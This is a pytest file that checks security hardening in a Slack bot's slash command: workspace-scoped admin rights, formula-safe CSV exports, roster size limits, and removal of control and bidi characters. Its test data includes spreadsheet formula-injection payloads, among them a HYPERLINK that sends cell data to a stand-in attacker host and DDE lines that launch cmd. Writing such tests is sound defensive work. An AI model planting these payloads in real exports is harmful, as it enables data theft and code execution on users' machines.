"""Hardening found by an attack on the Slack app, through the real WSGI app and the Web API mock:
tenancy of admin rights, formulas in the CSV, long roster replies, echoed and stored input,
and people named as Slack sends them."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlencode

import pytest
import yaml

from bot import ids
from bot.app import create_app
from bot.blocks.common import clip, escape, pieces, split_sections
from bot.blocks.result import result_blocks
from bot.context import BotContext
from bot.csv_export import safe_cell
from bot.roster import parse_import
from bot.server import wsgi_app
from flows.session import PersonKey
from flows.storage.redis_store import RedisStore
from tests.bot.slack_env import FW, SECRET, Bot, Person, settings_for
from tests.bot.test_bad_input import Harness, at_review, save_note
from tests.bot.test_blocks import record
from tests.slack_mock import Call, MockSlackApi
from tests.slack_requests import SlackClient, serve_wsgi

TEAM = "T0001"
ROOT = Path(__file__).resolve().parents[2]
FORMULA = ("=", "+", "-", "@", "\t", "\r")
# Bidi controls and control characters other than line breaks and tab.
UNSAFE = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


@dataclass
class Running:
    bot: Bot
    ctx: BotContext
    acks: list[str]

    @property
    def api(self) -> MockSlackApi:
        return self.bot.api

    def settle(self) -> None:
        """Wait until the after-ack work of every request sent so far has finished."""
        self.ctx.executor.shutdown(wait=True)
        self.ctx.executor = ThreadPoolExecutor(4, "itss-after-ack")

    def slash(self, user: str, text: str, **extra: str) -> str:
        """`/itss text` as `user` (extra form fields, e.g. enterprise_id); returns the ack."""
        form = self.bot.slack.slash_form(user, text) | extra
        result = self.bot.slack.post(urlencode(form))
        assert result.status == 200, result
        body = result.body
        if body.startswith("{"):  # a JSON ack, made readable
            body = json.dumps(result.json(), ensure_ascii=False)
        self.acks.append(body)
        self.settle()
        return body

    def replies(self) -> list[Call]:
        return self.api.calls("response_url")

    def said_to(self, user: str) -> str:
        """Everything that reached `user`: acks, response_url replies, DMs and uploaded files."""
        dm = f"D{user}"
        parts = [*self.acks, *(json.dumps(c.args, ensure_ascii=False) for c in self.replies())]
        for call in self.api.calls():
            if call.args.get("channel") == dm or call.args.get("channel_id") == dm:
                parts.append(json.dumps(call.args, ensure_ascii=False, default=str))
        parts += [c.body.decode("utf-8", "replace") for c in self.api.calls("upload")]
        return "\n".join(parts)

    def csv_rows(self) -> list[list[str]]:
        (upload,) = self.api.uploads(".csv")
        return list(csv.reader(io.StringIO(upload.body.decode("utf-8"))))


@pytest.fixture
def run(redis_store: RedisStore, redis_url: str) -> Iterator[Running]:
    with MockSlackApi() as api:
        app, ctx = create_app(settings_for(api, redis_url), redis_store)
        try:
            with serve_wsgi(wsgi_app(app, redis_store)) as base:
                slack = SlackClient(base, SECRET, hooks_url=api.hooks_url)
                yield Running(Bot(api, slack, redis_store, ctx.settings), ctx, [])
        finally:
            ctx.executor.shutdown(wait=True)


# ---------------------------------------------------------------------- 4. tenancy


@pytest.mark.parametrize("text", ["team all", "roster show"])
def test_an_admin_of_another_workspace_is_no_admin_here(run: Running, text: str) -> None:
    run.bot.store.set_managers(TEAM, {"UMEMBER1": ["UMGR1"], "UMEMBER2": ["UMGR1"]})
    run.api.set_user("UEXT", is_admin=True, is_owner=True, team_id="T9EXTERNAL")
    run.slash("UEXT", text)
    (reply,) = run.replies()
    assert "管理者のみ" in reply.args["text"]
    said = run.said_to("UEXT")
    for secret in ("UMEMBER1", "UMEMBER2", "UMGR1"):
        assert secret not in said, f"{secret} reached the foreign admin"
    assert not run.api.calls("files.getUploadURLExternal")
    assert not run.api.calls("chat.postMessage")


@pytest.mark.parametrize("text", ["team all", "roster show"])
def test_an_admin_of_this_workspace_still_is(run: Running, text: str) -> None:
    run.bot.store.set_managers(TEAM, {"UMEMBER1": ["UMGR1"]})
    run.api.set_user("UOWN", is_admin=True)  # users.info says team_id T0001
    run.slash("UOWN", text)
    assert "UMEMBER1" in run.said_to("UOWN")


@pytest.mark.parametrize(("request_org", "admin"), [("E0001", True), ("E0999", False), ("", False)])
def test_on_enterprise_grid_the_org_of_the_request_counts(
    run: Running, request_org: str, admin: bool
) -> None:
    run.bot.store.set_managers(TEAM, {"UMEMBER1": ["UMGR1"]})
    run.api.set_user(
        "UORG",
        is_admin=True,
        team_id="T0HOME",
        enterprise_user={"enterprise_id": "E0001", "is_admin": True, "teams": ["T0HOME", TEAM]},
    )
    run.slash("UORG", "roster show", enterprise_id=request_org)
    assert ("UMEMBER1" in run.said_to("UORG")) is admin


# ---------------------------------------------------------------------- 5. formulas in the CSV

HOSTILE_NAMES = {
    "UM1": '=HYPERLINK("https://evil.example/?x="&A2,"click")',
    "UM2": "+cmd|' /C calc'!A0",
    "UM3": "-2+3",
    "UM4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "UM5": "\t=1+1",
    "UM6": "\r=1+1",
    "UM7": "＝1+1",
    "UM8": "鈴木 一郎",
}


def test_team_csv_cells_never_start_a_formula(run: Running) -> None:
    run.bot.store.set_managers(TEAM, {m: ["UBOSS"] for m in HOSTILE_NAMES})
    for user, name in HOSTILE_NAMES.items():
        run.api.set_user(user, real_name=name)
    run.slash("UBOSS", "team")
    header, *rows = run.csv_rows()
    assert header[:2] == ["user_id", "name"]
    assert len(rows) == len(HOSTILE_NAMES)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA), row
        assert row[1] == safe_cell(HOSTILE_NAMES[row[0]]), "the name round-trips, prefixed"
    names = {r[0]: r[1] for r in rows}
    assert names["UM1"] == "'" + HOSTILE_NAMES["UM1"]
    assert names["UM8"] == "鈴木 一郎", "an ordinary name is left alone"
    by_user = {r[0]: r for r in rows}
    assert by_user["UM1"][2:] == ["", "", "", "未着手", "", "", "", ""], (
        "no result yet: empty cells"
    )


@pytest.mark.parametrize("value", [*HOSTILE_NAMES.values(), "-", "", "=", "a=b", "'=x"])
def test_safe_cell_prefixes_exactly_what_a_spreadsheet_would_run(value: str) -> None:
    out = safe_cell(value)
    assert out == ("'" + value if value.startswith((*FORMULA, "＝")) else value)


# ---------------------------------------------------------------------- 7. long roster


def test_a_roster_of_5000_goes_as_a_csv_not_as_13_replies(run: Running) -> None:
    roster = {f"UM{i:05d}": [f"UMGR{i % 40:02d}"] for i in range(5000)}
    roster["UM00001"].append("UMGR99")
    run.bot.store.set_managers(TEAM, roster)
    run.slash("UADMIN", "roster show")
    replies = run.replies()
    assert 1 <= len(replies) <= 5, "Slack takes 5 replies per response_url"
    note = replies[-1].args["text"]
    assert "5000 人" in note
    assert "CSV" in note
    assert "DM" in note
    (complete,) = run.api.calls("files.completeUploadExternal")
    assert complete.args["channel_id"] == "DUADMIN"
    _header, *rows = run.csv_rows()
    assert len({member for member, *_ in rows}) == 5000
    assert len(rows) == 5001
    (upload,) = run.api.calls("upload")
    assert parse_import(upload.body.decode()) == roster, "the CSV imports back as it was"


def test_a_roster_that_fits_is_shown_inline(run: Running) -> None:
    run.bot.store.set_managers(TEAM, {f"UM{i:04d}": ["UMGR1"] for i in range(1500)})
    run.slash("UADMIN", "roster show")
    replies = run.replies()
    assert len(replies) <= 5
    shown = json.dumps([c.args["blocks"] for c in replies])
    assert all(f"<@UM{i:04d}>" in shown for i in range(1500))
    assert not run.api.calls("upload")


# ---------------------------------------------------------------------- 11. input hygiene


def test_an_overlong_unknown_subcommand_is_echoed_cut_short(run: Running) -> None:
    ack = run.slash("UA1", "x" * 40_000)
    assert "サブコマンドはありません" in ack
    assert len(ack) < 300
    assert "x" * 99 + "…" in ack
    assert "x" * 100 not in ack


@pytest.mark.parametrize(
    "text",
    ["dance\x1b[2J\x07\u202e\u2066", "start 監視\x00\u202e", "skill \x1b[31m\u202eバックアップ"],
)
def test_control_and_bidi_characters_are_not_echoed(run: Running, text: str) -> None:
    shown = run.slash("UA1", text)
    assert re.search(r"[\u3040-\u30ff]", shown), shown
    assert not UNSAFE.search(shown)


def test_notes_reach_person_and_manager_clean_and_whole(
    run: Running, redis_store: RedisStore
) -> None:
    run.bot.store.set_managers(TEAM, {"UA1": ["UMGR1"]})
    h = Harness(run.bot, run.ctx, run.bot.slack, None)  # type: ignore[arg-type]
    session = at_review(h, "UA1")
    typed = "移行\x00\x1b[2J\u202eリーダー " + "<&" * 400
    assert save_note(h, "UA1", session, typed).status == 200
    run.settle()
    saved = redis_store.load(PersonKey(team=TEAM, user="UA1"))
    assert saved is not None
    assert saved.notes["task"] == "移行[2Jリーダー " + "<&" * 400
    confirm = ids.Ref(saved.id, saved.step).encode()
    run.bot.slack.block_action("UA1", ids.CONFIRM, confirm, channel_id="DUA1")
    manager, person = Person(run.bot, "UMGR1"), Person(run.bot, "UA1")
    for who in (manager, person):
        result = next(
            c
            for c in who.wait_posts(1)
            if "ITSS 判定結果" in json.dumps(c.args, ensure_ascii=False)
        )
        assert "根拠メモ" in json.dumps(result.args, ensure_ascii=False), who.user
        texts = [b["text"]["text"] for b in result.args["blocks"] if b.get("text")]
        assert any("移行[2Jリーダー" in t for t in texts), who.user
        for text in texts:
            assert not UNSAFE.search(text)
            assert not re.search(r"&(?!amp;|lt;|gt;)", text), f"a cut entity: {text[-20:]!r}"


def test_clip_never_cuts_an_entity() -> None:
    for typed in ("<" * 1000, "&" * 1000, "a<&>" * 300):
        escaped = escape(typed)
        for limit in range(2, 40):
            out = clip(escaped, limit)
            assert len(out) <= limit
            assert not re.search(r"&(?!amp;|lt;|gt;)", out), (limit, out)
        blocks = split_sections([escaped])
        texts = [b["text"]["text"] for b in blocks]
        assert "".join(texts) == escaped, "a long line goes on in the next section, whole"
        for text in texts:
            assert len(text) <= 3000
            assert not re.search(r"&(?!amp;|lt;|gt;)", text), f"a cut entity: {text[-20:]!r}"
        for limit in range(5, 40):
            parts = pieces(escaped, limit)
            assert "".join(parts) == escaped
            assert all(
                0 < len(p) <= limit and not re.search(r"&(?!amp;|lt;|gt;)", p) for p in parts
            )


def test_a_long_line_of_mentions_is_never_cut_inside_one() -> None:
    line = "、".join(f"<@U{i:08d}>" for i in range(400))
    for part in pieces(line, 3000):
        assert part.count("<") == part.count(">"), part[-30:]


def test_the_person_sees_their_own_notes() -> None:
    blocks = json.dumps(result_blocks(record("system_operations", 3), FW), ensure_ascii=False)
    assert "根拠メモ" in blocks
    assert "基幹系" in blocks


def test_stored_notes_from_before_are_shown_clean() -> None:
    old = record("system_operations", 3).model_copy(update={"notes": {"task": "a\x1b\u202eb"}})
    for for_manager in (False, True):
        blocks = json.dumps(result_blocks(old, FW, for_manager=for_manager), ensure_ascii=True)
        assert "\\u001b" not in blocks
        assert "\\u202e" not in blocks


@pytest.mark.parametrize("space", ["\t", "  ", "\u3000", " \t "])
def test_team_all_with_any_whitespace(run: Running, space: str) -> None:
    run.bot.store.set_managers(TEAM, {"UMEMBER1": ["UMGR1"]})
    ack = run.slash("UADMIN", f"team{space}all")
    assert "サブコマンドはありません" not in ack
    assert "UMEMBER1" in run.said_to("UADMIN")


@pytest.mark.parametrize(("digit", "shown"), [("٤", None), ("𝟒", None), ("४", None), ("４", 4)])
def test_level_reads_ascii_and_full_width_digits_only(
    run: Running, digit: str, shown: int | None
) -> None:
    ack = run.slash("UA1", f"level SO {digit}")
    if shown is None:
        assert "使い方: `/itss level" in ack
    else:
        assert f"レベル {shown} 達成度指標" in ack


# ---------------------------------------------------------------------- 12. mentions


def test_manifest_asks_slack_for_user_ids() -> None:
    manifest = yaml.safe_load((ROOT / "slack-manifest.yaml").read_text(encoding="utf-8"))
    (command,) = manifest["features"]["slash_commands"]
    assert command["command"] == "/itss"
    assert command["should_escape"] is True


def people(run: Running) -> None:
    run.api.set_user("USATO", name="sato", real_name="佐藤 花子")
    run.api.set_user("UTANAKA", name="tanaka", real_name="田中 太郎")
    run.api.set_user("USUZUKI1", name="suzuki.ichiro", real_name="鈴木")
    run.api.set_user("USUZUKI2", name="suzuki.jiro", real_name="鈴木")
    run.api.set_user("UEXTSATO", name="kato", real_name="Kato", team_id="T9EXTERNAL")
    run.api.set_user("UGONE", name="gone", deleted=True)


@pytest.mark.parametrize(
    "text",
    [
        "roster set @sato @tanaka",
        "roster set <@USATO> <@UTANAKA>",
        "roster set <@USATO|sato> UTANAKA",
        "roster set @SATO\t@Ｔａｎａｋａ",
        "roster import\n@sato,@田中 太郎",
        "roster import\n<@USATO|sato>,@Tanaka",
    ],
)
def test_roster_reads_mentions_ids_and_plain_names(run: Running, text: str) -> None:
    people(run)
    run.slash("UADMIN", text)
    reply = run.replies()[-1].args["text"]
    assert run.bot.store.roster(TEAM) == {"USATO": ["UTANAKA"]}, reply


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("roster set @suzuki.ichiro @鈴木", "2 人います"),
        ("roster set @nobody @tanaka", "見つかりません"),
        ("roster set @nobody @tanaka @nobody2", "「@nobody2」"),
        ("roster set @sato @kato", "見つかりません"),  # in another workspace
        ("roster set @sato @gone", "見つかりません"),  # deactivated
        ("roster remove @nobody", "見つかりません"),
        ("roster import\n@sato,@tanaka\n@鈴木,@tanaka\n@nobody,@sato", "3 行目"),
    ],
)
def test_unknown_or_ambiguous_names_are_refused_in_one_message(
    run: Running, text: str, expected: str
) -> None:
    people(run)
    run.bot.store.set_managers(TEAM, {"UOLD": ["UOLDMGR"]})
    run.slash("UADMIN", text)
    (reply,) = run.replies()
    assert expected in reply.args["text"]
    assert run.bot.store.roster(TEAM) == {"UOLD": ["UOLDMGR"]}
    if "2 人います" in expected:
        assert "<@USUZUKI1>" in reply.args["text"]
        assert "<@USUZUKI2>" in reply.args["text"]


@pytest.mark.parametrize("named", ["@tanaka", "<@UTANAKA>", "<@UTANAKA|tanaka>", "UTANAKA"])
def test_an_admin_names_a_manager_for_their_team(run: Running, named: str) -> None:
    people(run)
    run.bot.store.set_managers(TEAM, {"USATO": ["UTANAKA"], "UOTHER": ["UOTHERMGR"]})
    run.slash("UADMIN", f"team {named}")
    said = run.said_to("UADMIN")
    assert "USATO" in said
    assert "UOTHER" not in said


def test_a_manager_may_name_only_themself(run: Running) -> None:
    people(run)
    run.bot.store.set_managers(TEAM, {"USATO": ["UTANAKA"], "UOTHER": ["UOTHERMGR"]})
    run.slash("UTANAKA", "team <@UTANAKA>")
    assert "USATO" in run.said_to("UTANAKA")
    run.api.clear()
    run.acks.clear()
    run.slash("UTANAKA", "team @otherboss")
    (reply,) = run.replies()
    assert "管理者のみ" in reply.args["text"]
    assert "UOTHER" not in run.said_to("UTANAKA")
    assert not run.api.calls("users.list"), "no name is looked up for a denied request"


def test_docs_say_how_people_are_named() -> None:
    doc = (ROOT / "docs" / "slack.md").read_text(encoding="utf-8")
    assert "should_escape: true" in doc
    assert "users.list" in doc
